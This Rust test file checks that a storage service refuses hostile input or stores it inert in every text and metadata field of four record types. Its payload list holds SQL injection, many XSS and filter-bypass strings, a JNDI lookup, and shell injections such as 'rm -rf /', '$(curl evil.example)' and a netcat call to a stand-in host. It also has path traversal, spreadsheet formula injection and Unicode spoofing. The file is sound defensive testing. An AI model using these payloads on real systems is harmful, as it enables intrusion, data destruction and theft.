//! BR-STORAGE-011: hostile strings through every text field of all four types.

use serde_json::{Value, json};
use storage_models::{NewRecord, RecordType};

use super::{full, run, with};
use crate::free_text;

const HOSTILE: &[&str] = &[
    // SQL
    "' OR '1'='1",
    "'; DROP TABLE remediation_audit; --",
    "\" OR \"\"=\"",
    "1; SELECT pg_sleep(10)",
    "x' UNION SELECT usename, passwd FROM pg_shadow --",
    "$$; DELETE FROM remediation_audit; $$",
    "\\'; COPY t TO PROGRAM 'id'; --",
    "/**/OR/**/1=1",
    "E'\\047 OR 1=1'",
    "%27%20OR%201=1",
    "{\"$ne\": null}",
    // HTML and scripts
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<script/src=//evil.example/x.js>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=&#x6A;avascript:alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<b style=\"background:url(javascript:alert(1))\">x</b>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<xmp><!--</xmp><script>alert(1)</script>",
    "<table><td background=javascript:alert(1)>",
    "\"><script>alert(1)</script>",
    "'-alert(1)-'",
    "alert(1)",
    "alert<(>1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    // templates
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    "{{constructor.constructor('alert(1)')()}}",
    "%s%s%s%n",
    // shell and paths
    "; rm -rf /",
    "$(curl evil.example)",
    "`id`",
    "| nc evil.example 1",
    "&& reboot",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    // logs, headers, terminals
    "x\r\nlevel=error msg=forged",
    "x\nHTTP/1.1 200 OK\n\n",
    "\u{1b}]0;title\u{7}",
    "\u{1b}[2J",
    "x\u{8}\u{8}y",
    "a\u{85}b\u{2028}c\u{2029}d",
    // spreadsheets
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    // Unicode
    "\u{202e}gpj.exe",
    "\u{2066}user\u{2069}",
    "pa\u{200b}ypal",
    "\u{feff}x",
    "ﷺﷺﷺ",
    "Z\u{351}\u{36b}\u{343}\u{36a}\u{302}a",
    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
    "\u{e000}\u{10ffff}",
    "\u{fffd}\u{fffe}",
    "()<>;",
];

/// Fields whose value is text, of each type, with whether they are free text.
fn text_fields(record_type: RecordType) -> Vec<(String, bool)> {
    let record = full(record_type);
    let fields = record.as_object().unwrap().iter().filter(|(_, value)| value.is_string());
    let is_free = |name: &str| matches!(name, "error_message" | "recommendation" | "reasoning");
    fields.map(|(name, _)| (name.clone(), is_free(name))).collect()
}

/// Every text of a stored record, as Rust's own notation shows it.
/// All of a record but what was altered in it.
fn shown(record: &NewRecord) -> String {
    let mut record = record.clone();
    match &mut record {
        NewRecord::Remediation(record) => record.alterations = None,
        NewRecord::AiAnalysis(record) => record.alterations = None,
        NewRecord::Workflow(record) => record.alterations = None,
        NewRecord::Execution(record) => record.alterations = None,
    }
    format!("{record:?}")
}

/// Each string is refused at its field or stored inert, and what is stored would be stored again unchanged.
#[test]
fn hostile_text_is_refused_or_inert_in_every_field() {
    for record_type in RecordType::ALL {
        for (field, is_free) in text_fields(record_type) {
            for hostile in HOSTILE {
                let valid = match run(record_type, &with(record_type, &field, *hostile)) {
                    Ok(valid) => valid,
                    Err(invalid) => {
                        let is_here =
                            invalid.errors().iter().all(|error| error.pointer == format!("/{field}"));
                        assert!(is_here, "{field} {hostile:?}: {invalid}");
                        continue;
                    }
                };
                let stored = stored_text(&valid.record, &field);
                assert_eq!(
                    free_text::escape_active(&stored),
                    Ok(None),
                    "{field} {hostile:?} runs as {stored:?}"
                );
                let is_named = valid.sanitized_fields == [format!("/{field}")];
                assert_eq!(is_named, stored != *hostile, "{field} {hostile:?} altered silently");
                assert!(is_free || !stored.contains(['<', '>', ';', '\n', '\u{1b}', '\u{202e}']));
                let again = run(record_type, &with(record_type, &field, stored.as_str())).unwrap();
                assert_eq!((shown(&again.record), again.sanitized_fields), (shown(&valid.record), vec![]));
            }
        }
    }
}

/// The same in metadata: as a string, in an array, and as a key.
#[test]
fn hostile_text_is_refused_or_inert_in_metadata() {
    for hostile in HOSTILE {
        for metadata in [json!({"a": hostile}), json!({"a": [[hostile]]}), json!({*hostile: 1})] {
            let Ok(valid) =
                run(RecordType::Remediation, &with(RecordType::Remediation, "metadata", metadata.clone()))
            else {
                continue;
            };
            let NewRecord::Remediation(record) = valid.record else { panic!("another type") };
            let stored: Value = serde_json::from_str(record.metadata.unwrap().as_str()).unwrap();
            assert_eq!(valid.sanitized_fields.is_empty(), stored == metadata, "{hostile:?} altered silently");
            for text in texts(&stored) {
                assert_eq!(free_text::escape_active(&text), Ok(None), "{hostile:?} runs as {text:?}");
            }
        }
    }
}

fn texts(value: &Value) -> Vec<String> {
    match value {
        Value::String(text) => vec![text.clone()],
        Value::Array(items) => items.iter().flat_map(texts).collect(),
        Value::Object(members) => {
            members.iter().flat_map(|(key, value)| [vec![key.clone()], texts(value)].concat()).collect()
        }
        _ => vec![],
    }
}

/// The text that a record stores in a field that takes hostile text.
fn stored_text(record: &NewRecord, field: &str) -> String {
    let text = match (record, field) {
        (NewRecord::Remediation(record), "name") => Some(&record.name),
        (NewRecord::Remediation(record), "namespace") => Some(&record.namespace),
        (NewRecord::Remediation(record), "action_type") => Some(&record.action_type),
        (NewRecord::Remediation(record), "target_name") => record.target_name.as_ref(),
        (NewRecord::Remediation(record), "environment") => record.environment.as_ref(),
        (NewRecord::Remediation(record), "cluster") => record.cluster.as_ref(),
        (NewRecord::Remediation(record), "remediation_request_id") => record.remediation_request_id.as_ref(),
        (NewRecord::Remediation(record), "alert_name") => record.alert_name.as_ref(),
        (NewRecord::Remediation(record), "alert_fingerprint") => record.alert_fingerprint.as_ref(),
        (NewRecord::Remediation(record), "error_message") => record.error_message.as_ref(),
        (NewRecord::AiAnalysis(record), "analysis_type") => Some(&record.analysis_type),
        (NewRecord::AiAnalysis(record), "recommendation") => Some(&record.recommendation),
        (NewRecord::AiAnalysis(record), "reasoning") => record.reasoning.as_ref(),
        (NewRecord::AiAnalysis(record), "model") => Some(&record.model),
        (NewRecord::Workflow(record), "workflow_name") => Some(&record.workflow_name),
        (NewRecord::Execution(record), "action_type") => Some(&record.action_type),
        (NewRecord::Execution(record), "target_kind") => Some(&record.target_kind),
        (NewRecord::Execution(record), "target_name") => Some(&record.target_name),
        (NewRecord::Execution(record), "namespace") => record.namespace.as_ref(),
        (NewRecord::Execution(record), "error_message") => record.error_message.as_ref(),
        (_, other) => panic!("{other} took a hostile text"),
    };
    text.unwrap().clone()
}
